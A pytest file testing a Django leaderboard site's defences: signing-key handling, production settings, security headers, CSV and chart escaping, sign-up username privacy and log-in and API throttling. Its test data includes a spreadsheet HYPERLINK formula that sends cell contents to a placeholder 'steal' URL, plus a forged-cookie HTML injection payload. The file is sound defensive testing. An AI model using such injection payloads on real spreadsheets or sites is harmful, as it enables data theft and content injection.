"""The web site's own defences: the signing key, production settings, headers, CSV and chart
output, sign-up that keeps usernames private, and throttling of log-in, sign-up and the API."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.contrib.messages import constants
from django.contrib.messages.storage.base import Message
from django.contrib.messages.storage.cookie import CookieStorage
from django.core.cache import cache
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.test import Client, RequestFactory, override_settings
from django.test.utils import CaptureQueriesContext
from django.utils.safestring import mark_safe
from rest_framework.throttling import SimpleRateThrottle

from tests.services import ROOT, redis_server
from tests.touchstone.conftest import api_client_for, upload
from tests.touchstone.test_pages import scored
from touchstone.accounts.forms import USERNAME_REJECTED
from touchstone.accounts.throttling import client_address
from touchstone.api.renderers import LeaderboardCSVRenderer
from touchstone.env import env_rate, secret_key_from_file
from touchstone.front.charts import leaderboard_chart
from touchstone.security import check_shared_cache

# The key the site used to ship in its source: anyone could sign cookies with it.
PUBLIC_OLD_KEY = "touchstone-local-development-key-not-for-production"
STRONG_KEY = "k7Qm2vX9pL4sT8wZ1nB6cR3yF5hJ0dG-aE_uW7iO2kN4mV8qS1xC9zL3"
FORMULA_NAME = '=HYPERLINK("https://example.org/steal?"&A1,"click")'
MARKUP_NAME = '<a href="https://example.org">x</a>'
PASSWORD = "a-long-password-1"  # the researcher fixture's
SUBMISSION_TEMPLATE = ROOT / "templates" / "front" / "submission.html"


@pytest.fixture(autouse=True)
def fresh_counters():
    """Throttling counters live in the cache: each test starts and leaves with none."""
    cache.clear()
    yield
    cache.clear()


def python(code: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, check=False
    )


def site_env(tmp_path: Path, **values: str) -> dict[str, str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith(("DJANGO_", "TOUCHSTONE_"))}
    return {
        **env,
        "DJANGO_SETTINGS_MODULE": "touchstone.settings",
        "TOUCHSTONE_DATA_DIR": str(tmp_path / "data"),
        **values,
    }


def production_env(tmp_path: Path, **values: str) -> dict[str, str]:
    return site_env(
        tmp_path,
        TOUCHSTONE_PRODUCTION="1",
        DJANGO_SECRET_KEY=STRONG_KEY,
        DJANGO_ALLOWED_HOSTS="touchstone.example",
        **values,
    )


# The signing key ---------------------------------------------------------------------------------


def test_a_messages_cookie_signed_with_the_old_public_key_is_rejected(db, settings):
    payload = '<img src="x" id="forged-by-a-stranger">'
    with override_settings(SECRET_KEY=PUBLIC_OLD_KEY):
        forged = CookieStorage(RequestFactory().get("/"))._encode([Message(constants.ERROR, mark_safe(payload))])
        # The forgery is real: a site signing with the public key shows it as live HTML.
        accepted = Client()
        accepted.cookies["messages"] = forged
        assert payload in accepted.get("/").content.decode()
    assert settings.SECRET_KEY != PUBLIC_OLD_KEY
    client = Client()
    client.cookies["messages"] = forged
    assert "forged-by-a-stranger" not in client.get("/").content.decode()


def test_the_local_key_file_is_created_once_readable_by_its_owner_only_and_reused(tmp_path):
    path = tmp_path / "data" / "secret_key"
    keys: list[str] = []
    racers = [threading.Thread(target=lambda: keys.append(secret_key_from_file(path))) for _ in range(8)]
    for racer in racers:
        racer.start()
    for racer in racers:
        racer.join()
    assert len(set(keys)) == 1 and len(keys[0]) >= 50
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert secret_key_from_file(path) == keys[0]
    assert [entry.name for entry in path.parent.iterdir()] == ["secret_key"]  # no temporary file left


def test_a_local_site_signs_with_its_generated_key_across_restarts(tmp_path):
    env = site_env(tmp_path)
    first = python("from django.conf import settings; print(settings.SECRET_KEY)", env)
    second = python("from django.conf import settings; print(settings.SECRET_KEY)", env)
    assert first.returncode == 0, first.stderr
    key = (tmp_path / "data" / "secret_key").read_text().strip()
    assert first.stdout.strip() == second.stdout.strip() == key
    assert key != PUBLIC_OLD_KEY


# Production settings ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"DJANGO_SECRET_KEY": ""}, "DJANGO_SECRET_KEY"),
        ({"DJANGO_SECRET_KEY": "short-but-random-3f9a"}, "DJANGO_SECRET_KEY"),
        ({"DJANGO_SECRET_KEY": "ab" * 40}, "DJANGO_SECRET_KEY"),
        ({"DJANGO_SECRET_KEY": "django-insecure-" + STRONG_KEY}, "DJANGO_SECRET_KEY"),
        ({"DJANGO_SECRET_KEY_FALLBACKS": "old-and-short"}, "DJANGO_SECRET_KEY_FALLBACKS"),
        ({"DJANGO_DEBUG": "1"}, "DJANGO_DEBUG"),
    ],
    ids=["no key", "short key", "too few distinct characters", "django-insecure key", "weak fallback", "debug on"],
)
def test_production_refuses_to_start_with_an_unsafe_setting(tmp_path, change, named):
    env = production_env(tmp_path)
    env.update(change)
    if change.get("DJANGO_SECRET_KEY") == "":
        del env["DJANGO_SECRET_KEY"]
    result = python("import touchstone.settings", env)
    assert result.returncode != 0
    assert "ImproperlyConfigured" in result.stderr and named in result.stderr.splitlines()[-1]
    assert not (tmp_path / "data" / "secret_key").exists()


def test_production_turns_on_https_only_settings_by_default(tmp_path):
    code = (
        "import json; from touchstone import settings as s; print(json.dumps([s.SECURE_HSTS_SECONDS, "
        "s.SECURE_HSTS_INCLUDE_SUBDOMAINS, s.SECURE_HSTS_PRELOAD, s.SECURE_SSL_REDIRECT, "
        "s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_PROXY_SSL_HEADER]))"
    )
    production = python(code, production_env(tmp_path, TOUCHSTONE_PROXY_SSL_HEADER="X-Forwarded-Proto"))
    assert production.returncode == 0, production.stderr
    assert json.loads(production.stdout) == [
        31536000,
        True,
        True,
        True,
        True,
        True,
        ["HTTP_X_FORWARDED_PROTO", "https"],
    ]
    local = python(code, site_env(tmp_path))
    assert json.loads(local.stdout) == [0, False, False, False, False, False, None]


def test_check_deploy_is_clean_with_production_settings(tmp_path):
    env = production_env(tmp_path, TOUCHSTONE_CACHE_URL="redis://127.0.0.1:6379/1")
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_the_deployment_check_warns_while_throttle_counters_are_per_process():
    assert [warning.id for warning in check_shared_cache(None)] == ["touchstone.W001"]
    shared = {
        "default": {"BACKEND": "django.core.cache.backends.redis.RedisCache", "LOCATION": "redis://127.0.0.1:6379/1"}
    }
    with override_settings(CACHES=shared):
        assert check_shared_cache(None) == []


@pytest.mark.services
def test_throttle_counters_in_redis_are_shared_between_processes(service_folder, tmp_path):
    with redis_server(service_folder / "web-layer-redis") as url:
        env = site_env(tmp_path, TOUCHSTONE_CACHE_URL=url)
        code = "import django; django.setup(); from touchstone.accounts.throttling import Limit; "
        counted = python(code + "Limit('shared', 2, 60).count('198.51.100.7')", env)
        assert counted.returncode == 0, counted.stderr
        python(code + "Limit('shared', 2, 60).count('198.51.100.7')", env)
        asked = python(code + "print(Limit('shared', 2, 60).is_exhausted('198.51.100.7'))", env)
        assert asked.stdout.strip() == "True"


def test_a_malformed_throttle_rate_stops_the_site_and_names_the_variable(monkeypatch):
    monkeypatch.setenv("TOUCHSTONE_THROTTLE_ANON", "300 per minute")
    with pytest.raises(ImproperlyConfigured, match="TOUCHSTONE_THROTTLE_ANON"):
        env_rate("TOUCHSTONE_THROTTLE_ANON", "300/minute")


# Headers --------------------------------------------------------------------------------------------


def test_every_page_forbids_inline_scripts_framing_and_type_sniffing(db):
    for path in ("/", "/accounts/login/", "/api/v1/benchmarks/", "/api/v1/docs/"):
        response = Client().get(path)
        policy = dict(part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";"))
        assert policy["script-src"] == "'self'" and policy["default-src"] == "'self'", path
        assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'", path
        assert response["X-Frame-Options"] == "DENY", path
        assert response["X-Content-Type-Options"] == "nosniff", path
        assert response["Referrer-Policy"] == "same-origin", path


@override_settings(
    SECURE_HSTS_SECONDS=31536000,
    SECURE_HSTS_INCLUDE_SUBDOMAINS=True,
    SECURE_HSTS_PRELOAD=True,
    SECURE_SSL_REDIRECT=True,
)
def test_production_settings_send_hsts_and_redirect_plain_http(db):
    secure = Client().get("/", secure=True)
    assert secure["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    plain = Client().get("/")
    assert plain.status_code == 301 and plain["Location"].startswith("https://")


def inline_code(template: Path) -> list[str]:
    """Inline scripts, event-handler attributes and style attributes: what the policy refuses.

    JSON data blocks (``application/json``, ``application/ld+json``) are never run, so they are not scripts.
    """
    text = template.read_text()
    scripts = [
        tag
        for tag in re.findall(r"<script\b[^>]*>", text)
        if "src=" not in tag and 'type="application/json"' not in tag and 'type="application/ld+json"' not in tag
    ]
    return scripts + re.findall(r"\son[a-z]+\s*=", text) + re.findall(r"\sstyle\s*=", text)


def test_no_template_holds_an_inline_script_handler_or_style():
    templates = [path for path in sorted((ROOT / "templates").rglob("*.html")) if path != SUBMISSION_TEMPLATE]
    assert {path.name: inline_code(path) for path in templates if inline_code(path)} == {}


def test_the_submission_page_holds_no_inline_script():
    assert inline_code(SUBMISSION_TEMPLATE) == []


# CSV and chart output -----------------------------------------------------------------------------


def payload_with(names: list[str], values: list[float]) -> dict:
    entries = [
        {
            "rank": i + 1,
            "rank_lower": 1,
            "rank_upper": 2,
            "tier": 1,
            "submission": i + 1,
            "model_name": name,
            "team": "ada",
            "is_baseline": False,
            "team_submissions": 1,
            "sha256": "0" * 64,
            "metrics": {"log_loss": {"value": value, "ci_low": value - 0.25, "ci_high": value + 0.25}},
        }
        for i, (name, value) in enumerate(zip(names, values, strict=True))
    ]
    return {"entries": entries, "metrics": ["log_loss"], "primary_metric": "log_loss", "part": "final"}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers():
    names = [FORMULA_NAME, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain name"]
    rendered = LeaderboardCSVRenderer().render(payload_with(names, [-0.5] * len(names))).decode()
    rows = list(csv.DictReader(io.StringIO(rendered)))
    assert [row["model_name"] for row in rows] == ["'" + name for name in names[:-1]] + ["plain name"]
    assert {row["log_loss_value"] for row in rows} == {"-0.5"}
    assert {row["log_loss_ci_low"] for row in rows} == {"-0.75"}


def test_a_formula_model_name_is_inert_in_the_downloaded_leaderboard(version, researcher, good_model_bytes):
    scored(version, researcher, good_model_bytes, FORMULA_NAME)
    response = Client().get(f"/api/v1/benchmarks/digits/versions/{version.version}/leaderboard/?format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["model_name"] for row in rows] == ["'" + FORMULA_NAME]
    assert float(rows[0]["accuracy_value"]) > 0


def test_chart_labels_carry_names_as_escaped_text():
    figure = leaderboard_chart(payload_with([MARKUP_NAME, "a & b"], [0.5, 0.6]))
    ticks = figure["layout"]["yaxis"]["ticktext"]
    hovers = [row[0] for row in figure["data"][0]["customdata"]]
    for labels in (ticks, hovers):
        assert labels == ['#1 &lt;a href="https://example.org"&gt;x&lt;/a&gt; (ada)', "#2 a &amp; b (ada)"]


def test_the_leaderboard_page_hands_the_chart_over_as_data_not_script(version, researcher, good_model_bytes):
    scored(version, researcher, good_model_bytes, MARKUP_NAME)
    page = Client().get(f"/benchmarks/digits/{version.version}/").content.decode()
    block = re.search(r'<script id="leaderboard-chart-data" type="application/json">(.*?)</script>', page, re.DOTALL)
    assert block is not None
    assert "<a" not in block.group(1)
    assert json.loads(block.group(1))["layout"]["yaxis"]["ticktext"][0].startswith("#1 &lt;a href=")
    assert "Plotly.newPlot" not in page


# Sign-up --------------------------------------------------------------------------------------------


def signup(username: str, password: str = "compilers-1952-x", address: str = "192.0.2.10"):
    return Client().post(
        "/accounts/signup/",
        {"username": username, "email": "someone@example.org", "password1": password, "password2": password},
        REMOTE_ADDR=address,
    )


def without_csrf(page: bytes) -> str:
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", page.decode())


def test_sign_up_answers_a_taken_name_exactly_like_a_reserved_or_malformed_one(researcher):
    answers = {name: signup(name) for name in ("ada", "ADA", "admin", "Touchstone-team", "ada lovelace", "x" * 151)}
    assert {response.status_code for response in answers.values()} == {200}
    pages = {without_csrf(response.content) for response in answers.values()}
    assert len(pages) == 1
    assert USERNAME_REJECTED in pages.pop()
    assert get_user_model().objects.count() == 1
    # An honest user with a free name gets in.
    assert signup("lovelace").status_code == 302


def test_a_weak_password_gets_the_same_answer_for_a_taken_and_a_free_name(researcher):
    taken = without_csrf(signup("ada", password="password").content).replace("ada", "NAME")
    free = without_csrf(signup("babbage", password="password").content).replace("babbage", "NAME")
    assert taken == free
    assert USERNAME_REJECTED not in taken and "too common" in taken


@override_settings(SIGNUPS_PER_HOUR=3)
def test_sign_up_is_throttled_per_address(db):
    assert [signup(name).status_code for name in ("admin", "root", "staff")] == [200, 200, 200]
    refused = signup("lovelace")
    assert refused.status_code == 429 and "Too many sign-up attempts" in refused.content.decode()
    assert not get_user_model().objects.filter(username="lovelace").exists()
    assert signup("lovelace", address="192.0.2.99").status_code == 302


# Log-in -----------------------------------------------------------------------------------------------


def log_in(client: Client, username: str, password: str, address: str = "198.51.100.7", path: str = "/accounts/login/"):
    return client.post(path, {"username": username, "password": password}, REMOTE_ADDR=address)


def logged_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


def test_a_correct_password_is_refused_without_a_lookup_after_ten_failures_from_one_address(researcher):
    assert log_in(Client(), "ada", PASSWORD).status_code == 302  # the password is right
    for attempt in range(10):
        assert log_in(Client(), f"someone-{attempt}", "guess").status_code == 200
    client = Client()
    with CaptureQueriesContext(connection) as queries:
        refused = log_in(client, "ada", PASSWORD)
    assert refused.status_code == 429 and refused["Retry-After"] == "900"
    assert "Too many failed log-ins" in refused.content.decode()
    assert not logged_in(client)
    assert not [query for query in queries.captured_queries if "auth_user" in query["sql"]]
    # Another address is not held back by this one's failures.
    assert log_in(Client(), "ada", PASSWORD, address="198.51.100.8").status_code == 302


def test_failures_for_one_username_from_many_addresses_lock_that_username(researcher):
    for attempt in range(10):
        log_in(Client(), "ADA", "guess", address=f"203.0.113.{attempt}")
    client = Client()
    assert log_in(client, "ada", PASSWORD, address="203.0.113.200").status_code == 429
    assert not logged_in(client)


def test_the_admin_log_in_counts_failures_too(researcher):
    researcher.is_staff = True
    researcher.save()
    for _ in range(10):
        log_in(Client(), "ada", "guess", path="/admin/login/")
    client = Client()
    response = log_in(client, "ada", PASSWORD, path="/admin/login/")
    assert "Too many failed log-ins" in response.content.decode()
    assert not logged_in(client)


@override_settings(TRUSTED_PROXIES=1)
def test_behind_one_trusted_proxy_the_client_address_is_the_one_the_proxy_recorded():
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="1.2.3.4, 198.51.100.7")
    assert client_address(request) == "198.51.100.7"
    with override_settings(TRUSTED_PROXIES=0):
        assert client_address(request) == "10.0.0.1"


def test_the_token_page_is_throttled_per_user(researcher):
    client = Client()
    client.force_login(researcher)
    assert all(client.get("/accounts/token/").status_code == 200 for _ in range(30))
    refused = client.get("/accounts/token/")
    assert refused.status_code == 429 and "Try again in 15 minutes" in refused.content.decode()


# The API ----------------------------------------------------------------------------------------------


@pytest.fixture
def low_api_rates(monkeypatch):
    # DRF's throttles read their rates once at import: set them on the class, as settings would.
    monkeypatch.setattr(
        SimpleRateThrottle, "THROTTLE_RATES", {"anon": "3/minute", "user": "50/minute", "uploads": "2/hour"}
    )


def test_anonymous_api_requests_are_throttled_with_the_one_error_shape(db, low_api_rates):
    client = Client()
    assert [client.get("/api/v1/benchmarks/").status_code for _ in range(3)] == [200, 200, 200]
    refused = client.get("/api/v1/benchmarks/")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    body = refused.json()
    assert set(body) == {"detail", "field"} and body["field"] is None
    assert body["detail"].startswith("Too many requests")


def test_uploads_have_their_own_lower_rate(version, researcher, low_api_rates):
    client = api_client_for(researcher)
    form = {"benchmark": "digits", "version": version.version, "model_name": "not a model"}
    statuses = [
        client.post("/api/v1/submissions/", {**form, "model_file": upload(b"hello")}).status_code for _ in range(3)
    ]
    assert statuses == [400, 400, 429]
    assert client.get("/api/v1/benchmarks/").status_code == 200  # reads are not uploads
